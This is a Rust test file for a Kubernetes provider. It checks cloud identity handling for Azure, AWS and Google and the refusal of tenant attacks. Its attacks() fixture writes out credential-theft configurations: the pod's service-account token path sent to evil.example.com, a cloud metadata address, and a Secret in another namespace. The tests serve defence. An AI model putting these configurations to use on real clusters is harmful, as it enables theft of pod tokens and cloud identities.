//! Configs with an identity: who may have which, and what their clusters get.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use crossplane_managed::provider_config::ProviderConfigKind;
use everest_cluster::identity::Environment;
use http::StatusCode;
use k8s_openapi::ByteString;
use serde_json::{Value, json};
use test_apiserver::loopback::{Heard, Loopback};

use super::*;
use crate::provider::testing::control_plane::ControlPlane;
use crate::provider::testing::scripted::{Seen, api};

/// A control plane with one config and the Secrets of the namespace `team`, by name.
#[derive(Default)]
struct World {
    config: Value,
    secrets: HashMap<String, Value>,
}

fn secret(name: &str, version: u32, key: &str, text: &str) -> (String, Value) {
    let secret = json!({
        "apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": name, "namespace": "team", "resourceVersion": version.to_string()},
        "data": {key: ByteString(text.as_bytes().to_vec())},
    });
    (name.to_owned(), secret)
}

fn kubeconfig(server: &str, user: &str) -> String {
    format!(
        "current-context: one\n\
         clusters: [{{ name: eu, cluster: {{ server: '{server}' }} }}]\n\
         users: [{{ name: u, user: {{ {user} }} }}]\n\
         contexts: [{{ name: one, context: {{ cluster: eu, user: u }} }}]\n"
    )
}

/// A config whose kubeconfig and identity are in Secrets of `team`.
fn config(kind: ProviderConfigKind, identity: &Value) -> Value {
    let mut config = json!({
        "apiVersion": "everest.m.openeverest.io/v1alpha1",
        "kind": kind.to_string(),
        "metadata": {"name": "eu"},
        "spec": {
            "credentials": {"source": "Secret",
                "secretRef": {"namespace": "team", "name": "cluster", "key": "kubeconfig"}},
            "identity": identity,
        },
    });
    if kind == ProviderConfigKind::ProviderConfig {
        config["metadata"]["namespace"] = json!("team");
    }
    config
}

fn named(kind: ProviderConfigKind) -> ProviderConfigReference {
    ProviderConfigReference {
        kind,
        name: "eu".to_owned(),
    }
}

/// The identity of a Secret of `team`.
fn of_secret(type_: &str) -> Value {
    json!({"type": type_, "source": "Secret",
        "secretRef": {"namespace": "team", "name": "cloud", "key": "credentials.json"}})
}

fn principal(secret: &str) -> String {
    json!({"tenantId": "t", "clientId": "c", "clientSecret": secret}).to_string()
}

fn targets(
    config: Value,
    secrets: impl IntoIterator<Item = (String, Value)>,
    environment: Environment,
) -> (Targets, Arc<Mutex<World>>, Seen) {
    let secrets = secrets.into_iter().collect();
    let world = Arc::new(Mutex::new(World { config, secrets }));
    let shown = world.clone();
    let (control, seen) = api(move |_, target, _| {
        let world = shown.lock().unwrap();
        let name = target.rsplit('/').next().unwrap_or_default();
        let found = match target {
            _ if target.contains("providerconfigs/") => Some(&world.config),
            _ if target.contains("/secrets/") => world.secrets.get(name),
            _ => None,
        };
        match found {
            Some(object) => (200, object.clone()),
            None => (
                404,
                json!({"kind": "Status", "status": "Failure", "code": 404, "reason": "NotFound",
                    "message": "not found"}),
            ),
        }
    });
    (Targets::in_pod(control, environment), world, seen)
}

/// An API server with Everest, for one token.
async fn everest(accepted: &'static str) -> Loopback {
    let answer = move |heard: &Heard| {
        let given = heard.headers().get("authorization");
        match given.is_some_and(|given| given == &format!("Bearer {accepted}")) {
            true => (
                StatusCode::OK,
                json!({"kind": "APIResourceList", "groupVersion": "everest.percona.com/v1alpha1",
                    "resources": []}),
            ),
            false => (
                StatusCode::UNAUTHORIZED,
                json!({"kind": "Status", "status": "Failure", "code": 401,
                    "reason": "Unauthorized", "message": "Unauthorized"}),
            ),
        }
    };
    Loopback::start(answer).await.unwrap()
}

/// Entra ID, which gives the token `minted` for the secret `right`.
async fn entra() -> Loopback {
    Loopback::start(|heard| match heard.body().contains("client_secret=right") {
        true => (
            StatusCode::OK,
            json!({"access_token": "minted", "expires_in": 3600}),
        ),
        false => (
            StatusCode::FORBIDDEN,
            json!({"error": "invalid_client", "error_description": "AADSTS7000215: wrong secret"}),
        ),
    })
    .await
    .unwrap()
}

fn pod(variable: &'static str, value: &str) -> Environment {
    let value = value.to_owned();
    Arc::new(move |name| (name == variable).then(|| value.clone()))
}

#[tokio::test(start_paused = true)]
async fn an_identity_in_a_secret_is_used_by_configs_of_both_kinds_and_a_new_one_at_once() {
    for kind in [
        ProviderConfigKind::ProviderConfig,
        ProviderConfigKind::ClusterProviderConfig,
    ] {
        let (server, entra) = (everest("minted").await, entra().await);
        let exec = "exec: { command: kubelogin, args: [get-token, --server-id, one] }";
        let (targets, world, _) = targets(
            config(kind, &of_secret("AzureServicePrincipalCredentials")),
            [
                secret("cluster", 1, "kubeconfig", &kubeconfig(&server.url, exec)),
                secret("cloud", 1, "credentials.json", &principal("wrong")),
            ],
            pod("AZURE_AUTHORITY_HOST", &entra.url),
        );
        let error = targets.connect("team", &named(kind)).await.unwrap_err();
        assert_eq!(error.reason(), "NoToken");
        let text = error.to_string();
        for expected in [
            "spec.identity",
            "403 Forbidden: invalid_client: AADSTS7000215",
            "renew clientSecret",
            "keeps trying",
        ] {
            assert!(text.contains(expected), "{expected}: {text}");
        }
        assert!(!text.contains("wrong\""), "{text}");

        // The cloud is asked ever less, not with each attempt to connect.
        entra.heard();
        for _ in 0..60 {
            tokio::time::advance(Duration::from_secs(5)).await;
            targets.connect("team", &named(kind)).await.unwrap_err();
        }
        let asked = entra.heard().len();
        assert!(asked < 15, "{asked} requests in five minutes");

        let (name, renewed) = secret("cloud", 2, "credentials.json", &principal("right"));
        world.lock().unwrap().secrets.insert(name, renewed);
        tokio::time::advance(Duration::from_secs(5)).await;
        targets.connect("team", &named(kind)).await.unwrap();
        assert_eq!(entra.heard().len(), 1);
    }
}

#[tokio::test(start_paused = true)]
async fn the_secret_of_an_identity_is_watched() {
    let (server, entra) = (everest("minted").await, entra().await);
    let kind = ProviderConfigKind::ProviderConfig;
    let (_, cluster) = secret("cluster", 1, "kubeconfig", &kubeconfig(&server.url, ""));
    let (_, cloud) = secret("cloud", 1, "credentials.json", &principal("right"));
    let given = config(kind, &of_secret("AzureServicePrincipalCredentials"));
    let plane = ControlPlane::new(vec![given, cluster, cloud], |_, _| {});
    let targets = Targets::in_pod(plane.client(), pod("AZURE_AUTHORITY_HOST", &entra.url));
    let first = targets.connect("team", &named(kind)).await.unwrap();
    let mut changes = targets.changes();
    let (_, renewed) = secret("cloud", 2, "credentials.json", &principal("right-again"));
    plane.change(
        "/api/v1/namespaces/team/secrets/cloud",
        &json!({"data": renewed["data"]}),
    );
    entra.heard();
    while changes.next().await.is_some() {
        let second = targets.connect("team", &named(kind)).await.unwrap();
        if second.revision > first.revision {
            break;
        }
    }
    assert!(entra.heard()[0].body().contains("right-again"));
}

#[tokio::test]
async fn an_identity_of_the_pod_is_used_by_a_cluster_provider_config() {
    let server = everest("minted").await;
    let google = Loopback::start(|_| {
        (
            StatusCode::OK,
            json!({"access_token": "minted", "expires_in": 3600}),
        )
    })
    .await
    .unwrap();
    let kind = ProviderConfigKind::ClusterProviderConfig;
    let identity = json!({"type": "GoogleApplicationCredentials", "source": "InjectedIdentity"});
    let (targets, ..) = targets(
        config(kind, &identity),
        [secret(
            "cluster",
            1,
            "kubeconfig",
            &kubeconfig(&server.url, ""),
        )],
        pod("GCE_METADATA_HOST", google.host()),
    );
    let first = targets.connect("team", &named(kind)).await.unwrap();
    targets.doubt(&first.key);
    let again = targets.connect("team", &named(kind)).await.unwrap();
    assert_eq!(again.revision, first.revision);
    assert_eq!(google.heard().len(), 1);
}

/// What the users of a namespace try, who control the ProviderConfigs and Secrets in it: to act as
/// the provider's pod in the cloud, or to get at its files.
fn attacks() -> Vec<(&'static str, Value, &'static str)> {
    let injected = |type_: &str| json!({"type": type_, "source": "InjectedIdentity"});
    let federated = |members: Value| {
        let mut credentials = json!({"tenantId": "t", "clientId": "c"});
        for (name, value) in members.as_object().unwrap() {
            credentials[name] = value.clone();
        }
        credentials.to_string()
    };
    let stolen = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let mut elsewhere = of_secret("AzureServicePrincipalCredentials");
    elsewhere["secretRef"]["namespace"] = json!("kube-system");
    let with = |identity: Value, text: &str| json!({"identity": identity, "text": text});
    vec![
        (
            "the role of the pod in AWS",
            with(injected("AWSWebIdentityCredentials"), ""),
            "NotPermitted",
        ),
        (
            "the role of the pod in AWS, from a Secret",
            with(of_secret("AWSWebIdentityCredentials"), ""),
            "NotPermitted",
        ),
        (
            "the service account of the pod at Google",
            with(injected("GoogleApplicationCredentials"), ""),
            "NotPermitted",
        ),
        (
            "the managed identity of the pod in Azure",
            with(injected("AzureWorkloadIdentityCredentials"), ""),
            "NotPermitted",
        ),
        (
            "another file of the pod, sent to a server of theirs",
            with(
                of_secret("AzureWorkloadIdentityCredentials"),
                &federated(json!({"federatedTokenFile": stolen,
                    "authorityHost": "https://evil.example.com"})),
            ),
            "NotPermitted",
        ),
        (
            "a file of the pod as credentials",
            with(
                json!({"type": "GoogleApplicationCredentials", "source": "Filesystem",
                "fs": {"path": stolen}}),
                "",
            ),
            "NotPermitted",
        ),
        (
            "a variable of the pod as credentials",
            with(
                json!({"type": "GoogleApplicationCredentials", "source": "Environment",
                "env": {"name": "PATH"}}),
                "",
            ),
            "NotPermitted",
        ),
        (
            "a Secret of another namespace",
            with(elsewhere, ""),
            "NotPermitted",
        ),
        (
            "a file of the pod, by credentials that name it",
            with(
                of_secret("GoogleApplicationCredentials"),
                &json!({"type": "external_account", "credential_source": {"file": stolen},
                    "token_url": "https://evil.example.com"})
                .to_string(),
            ),
            "CredentialsMalformed",
        ),
        (
            "a server beside the pod",
            with(
                of_secret("GoogleApplicationCredentials"),
                &json!({"type": "authorized_user", "client_id": "c", "client_secret": "s",
                    "refresh_token": "r", "token_uri": "http://169.254.169.254/"})
                .to_string(),
            ),
            "CredentialsMalformed",
        ),
        (
            "another server than Entra ID",
            with(
                of_secret("AzureServicePrincipalCredentials"),
                &json!({"tenantId": "t", "clientId": "c", "clientSecret": "s",
                    "authorityHost": "https://evil.example.com"})
                .to_string(),
            ),
            "CredentialsMalformed",
        ),
    ]
}

#[tokio::test]
async fn a_namespaced_config_gets_nothing_of_the_providers_pod() {
    let kind = ProviderConfigKind::ProviderConfig;
    for (what, given, reason) in attacks() {
        let server = everest("minted").await;
        let cloud = Loopback::start(|_| {
            (
                StatusCode::OK,
                json!({"access_token": "minted", "expires_in": 3600}),
            )
        })
        .await
        .unwrap();
        let url = cloud.url.clone();
        // A pod that has an identity in every cloud.
        let environment: Environment = Arc::new(move |name| match name {
            "GCE_METADATA_HOST" => Some(url.trim_start_matches("http://").to_owned()),
            "AZURE_TENANT_ID"
            | "AZURE_CLIENT_ID"
            | "AWS_ACCESS_KEY_ID"
            | "AWS_SECRET_ACCESS_KEY" => Some("of-the-pod".to_owned()),
            "AWS_REGION" => Some("eu-central-1".to_owned()),
            "AZURE_AUTHORITY_HOST" | "AWS_ENDPOINT_URL_STS" => Some(url.clone()),
            _ => None,
        });
        let text = given["text"].as_str().unwrap();
        let (targets, ..) = targets(
            config(kind, &given["identity"]),
            [
                secret("cluster", 1, "kubeconfig", &kubeconfig(&server.url, "")),
                secret("cloud", 1, "credentials.json", text),
            ],
            environment,
        );
        let error = targets.connect("team", &named(kind)).await.unwrap_err();
        assert_eq!(error.reason(), reason, "{what}: {error}");
        assert_eq!(cloud.heard().len(), 0, "{what}");
        assert_eq!(server.heard().len(), 0, "{what}");
    }
}

#[tokio::test]
async fn what_an_identity_needs_is_named() {
    let of_all = ProviderConfigKind::ClusterProviderConfig;
    let refusal = async |config: Value, secrets: Vec<(String, Value)>| {
        let (targets, ..) = targets(config, secrets, Arc::new(|_| None));
        let error = targets.connect("team", &named(of_all)).await.unwrap_err();
        (error.reason(), error.to_string())
    };
    let eks = kubeconfig("https://eks.example.com", "");
    let cluster = || secret("cluster", 1, "kubeconfig", &eks);

    let given = of_secret("AzureServicePrincipalCredentials");
    let (reason, text) = refusal(config(of_all, &given), vec![cluster()]).await;
    assert_eq!(reason, "SecretMissing");
    assert!(
        text.contains("the credentials of its identity from Secret team/cloud")
            && text.contains("correct spec.identity.secretRef"),
        "{text}"
    );

    let hush = secret("cloud", 1, "credentials.json", "hush");
    let (reason, text) = refusal(config(of_all, &given), vec![cluster(), hush]).await;
    assert_eq!(reason, "CredentialsMalformed");
    assert!(
        text.contains("key \"credentials.json\" of Secret team/cloud") && !text.contains("hush"),
        "{text}"
    );

    let mut own = config(
        of_all,
        &json!({"type": "AWSWebIdentityCredentials",
        "source": "InjectedIdentity"}),
    );
    own["spec"]["credentials"] = json!({"source": "InjectedIdentity"});
    let (reason, text) = refusal(own, vec![]).await;
    assert_eq!(reason, "NotPermitted");
    assert!(text.contains("place of the user in a kubeconfig"), "{text}");

    let (reason, text) = refusal(
        config(of_all, &of_secret("AWSWebIdentityCredentials")),
        vec![cluster()],
    )
    .await;
    assert_eq!(reason, "NotPermitted");
    assert!(text.contains("InjectedIdentity"), "{text}");

    let plain = secret(
        "cluster",
        1,
        "kubeconfig",
        &kubeconfig("http://eks.example.com", ""),
    );
    let injected = json!({"type": "AWSWebIdentityCredentials", "source": "InjectedIdentity"});
    let (reason, text) = refusal(config(of_all, &injected), vec![plain]).await;
    assert_eq!(reason, "CredentialsMalformed");
    assert!(text.contains("gets no token"), "{text}");
}
